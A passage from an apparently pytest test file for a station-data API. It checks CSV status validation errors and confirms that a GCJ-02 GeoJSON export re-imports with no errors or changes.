    lines["L-DUP"]["状态"] = "正常开放"
    new = row("L-NEW", name="新重复", lon=114.5, 状态="重复（已合并）")
    body = upload(client, csv_bytes([*lines.values(), new]), AUTH).json()
    assert sorted((e["column"], e["row"]) for e in body["errors"]) == [
        ("status", 2 + list(lines).index("L-TEMP")),
        ("status", 2 + list(lines).index("L-DUP")),
        ("status", 2 + len(lines)),
    ]


def test_a_collection_in_gcj02_says_so_and_is_read_in_it(client, conn):
    for i in range(15):  # positions with 7 decimals: the GCJ-02 round trip is within 5 cm
        create(
            client, f"CS-{i}", lon=114.1 + i * 0.0137913, lat=30.4 + i * 0.0111227, name=f"站{i}"
        )
    gcj = client.get("/api/v1/stations", params={"coord_sys": "gcj02", "limit": 500}).json()
    assert gcj["coord_sys"] == "gcj02"
    props_kept = set(sheet_keys())
    for f in gcj["features"]:
        f["properties"] = {k: v for k, v in f["properties"].items() if k in props_kept}
    body = upload(client, json.dumps(gcj).encode(), AUTH, name="gcj.geojson").json()
    assert body["counts"]["errors"] == 0
    assert body["counts"]["unchanged"] == len(gcj["features"]) and body["counts"]["changed"] == 0


def sheet_keys():
    from app.exchange.stations import PROPERTY_KEYS

    return PROPERTY_KEYS
